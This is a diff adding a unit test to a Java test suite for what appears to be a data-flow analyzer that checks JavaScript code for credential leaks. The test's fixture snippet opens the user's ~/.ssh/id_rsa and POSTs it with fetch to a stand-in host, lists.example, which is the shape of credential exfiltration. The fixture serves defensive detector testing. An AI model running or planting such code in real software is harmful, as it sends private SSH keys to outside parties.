@@ -336,4 +336,15 @@ class ListsAndFilesTest {
                 .isNotEmpty()
                 .noneMatch(Feature.Flow::assumed);
     }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"'w'", "'w+'"})
+    void whatStandsForAFileThatIsEmptiedHoldsNothing(String flags) {
+        Analysis analysis = Analysis.ofActivate("""
+                const file = fs.openSync(os.homedir() + '/.ssh/id_rsa', FLAGS);
+                fetch('https://lists.example/t', { method: 'POST', body: JSON.stringify({ file }) });
+                """.replace("FLAGS", flags));
+
+        assertThat(analysis.flows("ssh-credentials", "network-send")).isEmpty();
+    }
 }
